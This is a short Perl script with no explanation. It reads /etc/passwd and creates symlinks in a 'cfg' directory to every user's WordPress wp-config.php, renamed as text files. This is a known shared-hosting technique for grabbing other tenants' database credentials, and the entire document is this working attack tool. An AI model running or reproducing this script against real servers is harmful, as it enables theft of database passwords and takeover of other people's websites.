#!/usr/bin/perl
mkdir "cfg", 0755;
open(my $pw, "<", "/etc/passwd");
while (<$pw>) {
    my ($user) = split /:/;
    symlink("/home/$user/public_html/wp-config.php", "cfg/$user.txt");
}
